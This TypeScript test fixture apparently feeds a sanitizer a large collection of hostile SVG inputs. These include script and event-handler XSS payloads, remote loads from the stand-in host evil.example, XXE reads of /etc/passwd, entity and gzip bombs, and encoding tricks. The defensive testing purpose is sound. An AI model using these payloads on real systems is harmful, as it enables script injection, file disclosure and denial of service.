import { gzipSync } from 'node:zlib'

/** Hostile SVG files by name. Every one is either refused or comes out harmless. */
export const attacks: Record<string, string | Uint8Array> = {}

const ns = 'xmlns="http://www.w3.org/2000/svg"'
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const shape = '<path d="M0 0h9v9z"/>'
const svg = (body: string, attributes = '') =>
  `<svg ${ns} ${xlink} ${attributes}>${shape}${body}</svg>`
const add = (name: string, ...bodies: string[]) =>
  bodies.forEach((body, index) => {
    attacks[bodies.length > 1 ? `${name} ${index + 1}` : name] = body
  })

add(
  'script',
  svg('<script>alert(1)</script>'),
  svg('<script href="https://evil.example/x.js"/>'),
  svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
  svg('<script type="text/ecmascript"><![CDATA[alert(1)]]></script>'),
  svg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
  svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  svg('<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
  svg('<g><g><script>alert(1)</script></g></g>'),
  `<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script><x:rect width="1" height="1"/></x:svg>`,
  svg('<SCRIPT>alert(1)</SCRIPT>'),
  svg('<defs><symbol id="s"><script>alert(1)</script></symbol></defs><use href="#s"/>'),
  svg('<title><script>alert(1)</script>x</title>'),
  svg('<style><script>alert(1)</script></style>'),
  svg('<text><script>alert(1)</script></text>'),
  svg(
    '<handler type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  ),
)
add(
  'handler',
  svg('', 'onload="alert(1)"'),
  svg('', 'ONLOAD="alert(1)"'),
  svg('', 'onbegin="alert(1)" onfocusin="alert(1)" tabindex="1"'),
  svg('<rect width="1" height="1" onclick="alert(1)" onmouseover="alert(2)"/>'),
  svg('<rect width="1" height="1" &#x6f;nclick="alert(1)"/>'),
  svg('<image href="x" onerror="alert(1)"/>'),
  svg('<x:g xmlns:x="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
)
add(
  'link',
  svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
  svg('<a xlink:href="java&#9;script:alert(1)"><rect width="9" height="9"/></a>'),
  svg('<a xlink:href="&#1;javascript:alert(1)"><rect width="9" height="9"/></a>'),
  svg('<a xlink:href="&#x6A;avascript&#58;alert(1)"><rect width="9" height="9"/></a>'),
  svg('<a href="https://evil.example/"><rect width="9" height="9"/></a>'),
  `<svg ${ns} xmlns:e="http://www.w3.org/1999/xlink"><a e:href="javascript:alert(1)">${shape}</a></svg>`,
  svg(
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><rect width="9" height="9"/></a>',
  ),
  svg(
    '<a href="vbscript:x" target="_top" ping="https://evil.example/"><rect width="9" height="9"/></a>',
  ),
)
add(
  'foreign content',
  svg(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
  ),
  svg(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject>',
  ),
  svg(
    '<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/x.css"/>',
  ),
  svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/x.png"/>'),
  svg('<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="https://evil.example/x"/>'),
  svg('<h:embed xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/x"/>'),
  svg(
    '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example"/>',
  ),
  svg('<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="https://evil.example/"/>'),
  svg(
    '<iframe src="https://evil.example"/><video src="https://evil.example/x"/><audio src="https://evil.example/x"/>',
  ),
  svg(
    '<switch><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject><g><script>1</script></g></switch>',
  ),
  svg(
    '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" rdf:resource="https://evil.example"/></metadata>',
  ),
  svg('<desc><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example"/></desc>'),
  svg(
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
  ),
)
add(
  'outside reference',
  svg('<use href="https://evil.example/x.svg#a"/>'),
  svg('<use xlink:href="//evil.example/x.svg#a"/>'),
  svg('<use href="x.svg#a"/>'),
  svg('<image href="https://evil.example/x.png" width="9" height="9"/>'),
  svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
  svg('<feImage href="https://evil.example/x.png"/>'),
  svg(
    '<filter id="f"><feImage xlink:href="https://evil.example/x.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
  ),
  svg('<text><textPath href="https://evil.example/x.svg#p">x</textPath></text>'),
  svg(
    '<linearGradient id="g" href="https://evil.example/x.svg#g"/><rect width="9" height="9" fill="url(#g)"/>',
  ),
  svg(
    '<pattern id="p" xlink:href="https://evil.example/x.svg#p"/><rect width="9" height="9" fill="url(#p)"/>',
  ),
  svg('<animateMotion><mpath href="https://evil.example/x.svg#p"/></animateMotion>'),
  svg('<rect width="9" height="9" fill="url(https://evil.example/x.svg#g)"/>'),
  svg('<rect width="9" height="9" fill="url(&quot;//evil.example/x.svg#g&quot;) red"/>'),
  svg('<rect width="9" height="9" filter="url( https://evil.example/f.svg#f )"/>'),
  svg('<rect width="9" height="9" mask="url(data:image/svg+xml,x#m)" clip-path="url(x.svg#c)"/>'),
  svg('<path d="M0 0h9" marker-start="url(https://evil.example/#m)" marker="url(//e/#m)"/>'),
  svg('<rect width="9" height="9" cursor="url(https://evil.example/c.cur),auto"/>'),
  svg('<g xml:base="https://evil.example/"><use href="#a"/><image href="x.png"/></g>'),
  svg(
    '<font-face><font-face-src><font-face-uri href="https://evil.example/f"/></font-face-src></font-face>',
  ),
  svg('<color-profile href="https://evil.example/p.icc"/><cursor href="https://evil.example/c"/>'),
  svg('<tref xlink:href="https://evil.example/x#t"/><discard begin="0s"/><view id="v"/>'),
  svg(
    '<use xlink:href="#a" xmlns:q="http://www.w3.org/1999/xlink" q:title="https://evil.example"/>',
  ),
)
add(
  'data URL',
  svg(
    '<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=" width="9" height="9"/>',
  ),
  svg('<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" width="9" height="9"/>'),
  svg('<image href="data:text/html;base64,PHNjcmlwdD4=" width="9" height="9"/>'),
  svg(
    `<image href="data:image/png;base64,${Buffer.from('<svg onload="alert(1)"/>').toString('base64')}" width="9" height="9"/>`,
  ),
  svg(
    `<image href="data:image/gif;base64,${Buffer.from('GIF89a').toString('base64')}" width="9" height="9"/>`,
  ),
  svg(`<image href="data:image/png;base64,${hugePng()}" width="9" height="9"/>`),
  svg('<image href="data:image/png;charset=x,<script/>" width="9" height="9"/>'),
  svg('<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>'),
)
add(
  'animation',
  svg('<set attributeName="href" to="javascript:alert(1)"/>'),
  svg(
    '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="9" height="9"/></a>',
  ),
  svg('<a><animate attributeName="xlink:href" from="javascript:alert(1)" to="x"/></a>'),
  `<svg ${ns} xmlns:z="http://www.w3.org/1999/xlink"><a>${shape}<set attributeName="z:href" to="javascript:alert(1)"/></a></svg>`,
  svg('<a><set attributeName="&#x68;ref" to="javascript:alert(1)"/></a>'),
  svg('<animateTransform attributeName="transform" onbegin="alert(1)" begin="0s"/>'),
  svg('<animateColor attributeName="fill" by="x"/><animateMotion onend="alert(1)" path="M0 0"/>'),
  svg('<set attributeName="onmouseover" to="alert(1)"/>'),
)
add(
  'css',
  svg('<style>@import "https://evil.example/x.css";</style>'),
  svg('<style>@import url(//evil.example/x.css);</style>'),
  svg('<style>@\\69mport "https://evil.example/x.css";</style>'),
  svg('<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>'),
  svg('<style>path{fill:url(https://evil.example/#g)}</style>'),
  svg('<style>path{fill:\\75rl(https://evil.example/#g)}</style>'),
  svg('<style>path{fill:u\\rl("https://evil.example/#g")}</style>'),
  svg('<style>path{fill:url(\\68ttps://evil.example/#g)}</style>'),
  svg('<style>path{background-image:image-set("https://evil.example/x.png" 1x)}</style>'),
  svg(
    '<style>path{background:url(https://evil.example/x.png)}svg{background:url(//evil.example)}</style>',
  ),
  svg('<style>path{cursor:url(https://evil.example/x.cur),auto;list-style:url(x)}</style>'),
  svg(
    '<style>path{width:expression(alert(1));behavior:url(#default#time2);-moz-binding:url(https://evil.example/x.xml#a)}</style>',
  ),
  svg('<style>path{fill:red;/*</style>*/}</style>'),
  svg('<style>path{--u:url(https://evil.example/#g);fill:var(--u)}</style>'),
  svg('<style>path{fill:var(--x, url(https://evil.example/#g))}</style>'),
  svg(
    '<style>path{content:"</style><img src=x onerror=alert(1)>"}</style>'.replaceAll(
      '<img',
      '&lt;img',
    ),
  ),
  svg(
    '<style><![CDATA[path{fill:url("https://evil.example/]]&gt;<script>alert(1)</script>")}]]></style>',
  ),
  svg('<style>@namespace x url(https://evil.example/);@charset "utf-7";</style>'),
  svg(
    '<style>@media all{@import "https://evil.example";path{fill:url(//evil.example/#a)}}</style>',
  ),
  svg(
    '<style>path{fill:src("https://evil.example/#g");mask:image(url(https://evil.example/x))}</style>',
  ),
  svg(
    '<style>path{filter:url(https://evil.example/#f) blur(9px);clip-path:url("//evil.example/#c")}</style>',
  ),
  svg('<style>path{font-family:"a\\"};@import url(//evil.example/);x{"}</style>'),
  svg('<style>path{fill:u/**/rl(https://evil.example/#g)}</style>'),
  svg('<style>path{fill:url(https://evil.example/\\\n#g)}</style>'),
  svg('<style type="text/css" media="all){}@import url(//evil.example);x(">path{fill:red}</style>'),
  svg('<rect width="9" height="9" style="fill:url(https://evil.example/#g)"/>'),
  svg('<rect width="9" height="9" style="fill:&#x75;rl(https://evil.example/#g)"/>'),
  svg('<rect width="9" height="9" style="fill:red;background:url(javascript:alert(1))"/>'),
  svg(
    '<rect width="9" height="9" style="font-family:&quot;x&quot;;&#125; @import url(//evil.example)"/>',
  ),
  svg('<rect width="9" height="9" style="fill:url(#x&quot;onload=&quot;alert(1))"/>'),
)
add(
  'xml',
  `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${svg('')}`,
  svg('<?x ><img src="x" onerror="alert(1)">?>'),
  svg('<!--><script>alert(1)</script>-->'),
  svg('<!-- --!><img src=x onerror=alert(1)> -->'),
  svg('<text><![CDATA[<script>alert(1)</script>]]></text>'),
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg('<g>&x;</g>')}`,
  `<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>${svg('<g>&x;</g>')}`,
  `<!DOCTYPE svg [<!ATTLIST path onload CDATA "alert(1)">]>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY j "javascript:alert(1)">]>${svg('<a href="&j;"><rect width="9" height="9"/></a>')}`,
  `<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">${svg('')}`,
  `<!DOCTYPE svg [${'abcdefghij'
    .split('')
    .map(
      (name, i, all) => `<!ENTITY ${name} "${i ? `&${all[i - 1]};`.repeat(10) : 'x'.repeat(10)}">`,
    )
    .join('')}]>${svg('<text>&j;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY x "${'x'.repeat(4000)}">]>${svg(`<text>${'&x;'.repeat(9000)}</text>`)}`,
  svg('<rect width="9" height="9" fill="red" fill="blue"/>'),
  svg('<g>'),
  `${svg('')}<script>alert(1)</script>`,
  `<html><body>${svg('<script>alert(1)</script>')}</body></html>`,
  svg('<text>&nbsp;&undefined;</text>'),
  svg(
    '<rect width="9" height="9" id="&quot;&gt;&lt;script&gt;"/><use href="#&quot;&gt;&lt;script&gt;"/>',
  ),
  svg('<text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text>'),
  svg('<text font-family="&quot;&gt;&lt;script&gt;">x</text>'),
  svg('', 'viewBox="0 0 1 1&quot; onload=&quot;alert(1)"'),
  svg('<path d="M0 0&quot; onload=&quot;alert(1)"/>'),
)

const hidden = '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'
add('utf-7', `<?xml version="1.0" encoding="utf-7"?>${svg(`<g>${hidden}</g>`)}`)
attacks['utf-7 bytes'] = Buffer.from(
  `<?xml version="1.0" encoding="UTF-7"?>${svg(`<g>${hidden}</g>`)}`,
)
attacks['utf-16 little'] = Buffer.concat([
  Buffer.from([0xff, 0xfe]),
  Buffer.from(svg('<script>alert(1)</script>'), 'utf16le'),
])
attacks['utf-16 big'] = Buffer.concat([
  Buffer.from([0xff, 0xfe]),
  Buffer.from(svg('', 'onload="alert(1)"'), 'utf16le'),
]).swap16()
attacks['utf-16 unmarked'] = Buffer.from(svg('<script>alert(1)</script>'), 'utf16le')
attacks['broken utf-8'] = Buffer.concat([
  Buffer.from(svg('').slice(0, -6)),
  Buffer.from([0xc0, 0xbc, 0x73]),
  Buffer.from('</svg>'),
])
attacks['iso-2022-jp'] = Buffer.from(`<?xml version="1.0" encoding="iso-2022-jp"?>${svg('')}`)
attacks['gzip with script'] = gzipSync(svg('<script>alert(1)</script>'))
attacks['gzip bomb'] = gzipSync(Buffer.alloc(50_000_000, 0x20))
attacks['gzip in gzip'] = gzipSync(gzipSync(Buffer.alloc(5_000_000, 0x20)))
attacks['gzip cut'] = gzipSync(svg('')).subarray(0, 60)

const level = (n: number) => `<g id="l${n}">${`<use href="#l${n - 1}"/>`.repeat(10)}</g>`
add(
  'bomb',
  svg(
    `<defs><rect id="l0" width="1" height="1"/>${[1, 2, 3, 4].map(level).join('')}</defs><use href="#l4"/>`,
  ),
  svg(
    `<defs><rect id="l0" width="1" height="1"/>${[1, 2, 3, 4, 5, 6, 7, 8, 9].map(level).join('')}</defs><use href="#l9"/>`,
  ),
  svg('<g id="a"><use href="#a"/></g>'),
  svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  svg(
    '<pattern id="p" width="1" height="1"><rect width="1" height="1" fill="url(#p)"/></pattern><rect width="9" height="9" fill="url(#p)"/>',
  ),
  svg(
    '<mask id="m"><rect width="9" height="9" mask="url(#m)"/></mask><rect width="9" height="9" mask="url(#m)"/>',
  ),
  svg(
    '<clipPath id="c" clip-path="url(#c)"><path d="M0 0h9v9z"/></clipPath><rect width="9" height="9" clip-path="url(#c)"/>',
  ),
  svg(
    '<marker id="m"><path d="M0 0h9v9z" marker-start="url(#m)"/></marker><path d="M0 0h9" marker-start="url(#m)"/>',
  ),
  svg(
    '<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect width="9" height="9" fill="url(#a)"/>',
  ),
  svg('<g>'.repeat(200) + '</g>'.repeat(200)),
  svg('<g/>'.repeat(20_000)),
  '<svg>'.repeat(100_000),
  svg(`<path d="M${'0 0 99 99 0 99 99 0 '.repeat(20_000)}"/>`),
  svg(
    `${'<rect width="9" height="9" filter="url(#f)"/>'.repeat(500)}<filter id="f"><feGaussianBlur stdDeviation="99999"/></filter>`,
  ),
  svg(
    '<filter id="f" x="-9e9" width="9e9" height="9e9"><feGaussianBlur stdDeviation="9e9"/></filter><rect width="9" height="9" filter="url(#f)"/>',
  ),
  svg('', 'viewBox="0 0 1e30 1e30" width="1e9" height="1e9"'),
  svg('', 'viewBox="0 0 1e-30 1e-30"'),
  svg('<path d="M0 0L9e9 9e9" stroke="red" stroke-dasharray="1e-9"/>'),
  svg(
    '<pattern id="p" width="1e6" height="1e6" patternUnits="userSpaceOnUse" patternTransform="scale(999)"><rect width="1" height="1"/></pattern><rect width="9" height="9" fill="url(#p)"/>',
  ),
  svg(`<style>${'a{'.repeat(30_000)}</style>`),
  svg(
    `<style>${'g '.repeat(30)}path{fill:red}</style>${'<g>'.repeat(60)}${shape.repeat(500)}${'</g>'.repeat(60)}`,
  ),
  svg(
    `<style>${'g g g g g g g g g g g g g x{fill:red}'.repeat(500)}</style>${'<g>'.repeat(60)}${'<x/>'.repeat(3000)}${shape.repeat(1000)}${'</g>'.repeat(60)}`,
  ),
  svg(`<style>${'path:not('.repeat(3000)}</style>`),
  svg(`<style>${'*,'.repeat(15_000)}*{fill:red}</style>${shape.repeat(3000)}`),
  svg(
    `<style>g{${'& &{'.repeat(7)}fill:red${'}'.repeat(8)}</style>${'<g>'.repeat(60)}${shape.repeat(300)}${'</g>'.repeat(60)}`,
  ),
  svg(
    `<style>svg{${[...'abcdefghij'].map((v, i, all) => `--${v}:${i ? `var(--${all[i - 1]}) `.repeat(50) : ''};`).join('')}}path{fill:var(--j)}</style>`,
  ),
  svg(
    `<style>${'path{fill:red;stroke:blue;opacity:.5}'.repeat(1500)}</style>${shape.repeat(4000)}`,
  ),
  svg(
    `<rect width="9" height="9" ${Array.from({ length: 40_000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
  ),
  svg(
    `<g ${Array.from({ length: 9000 }, (_, i) => `xmlns:n${i}="urn:${i}"`).join(' ')}>${'<n1:x n2:y="" n3:z=""/>'.repeat(4000)}</g>`,
  ),
  svg(`<text>${'x'.repeat(100_000)}</text>`),
  svg(`<text font-size="1e5">${'<tspan rotate="1 2 3">x</tspan>'.repeat(1500)}</text>`),
  svg(`<g transform="${'scale(2)'.repeat(60_000)}"/>`),
  svg(`<rect width="9" height="9" fill="${'('.repeat(100_000)}"/>`),
  svg(`<rect width="9" height="9" style="${'fill:red;'.repeat(40_000)}"/>`),
  `<!DOCTYPE svg [${'<!--'.repeat(100_000)}]>${svg('')}`,
  `<!DOCTYPE svg [<!ENTITY a "${'<!--'.repeat(100_000)}">]>${svg('')}`,
  'x'.repeat(600 * 1024),
)

function hugePng(): string {
  const header = Buffer.alloc(64)
  Buffer.from('\x89PNG\r\n\x1a\n', 'latin1').copy(header)
  header.writeUInt32BE(13, 8)
  header.write('IHDR', 12)
  header.writeUInt32BE(30_000, 16)
  header.writeUInt32BE(30_000, 20)
  return header.toString('base64')
}
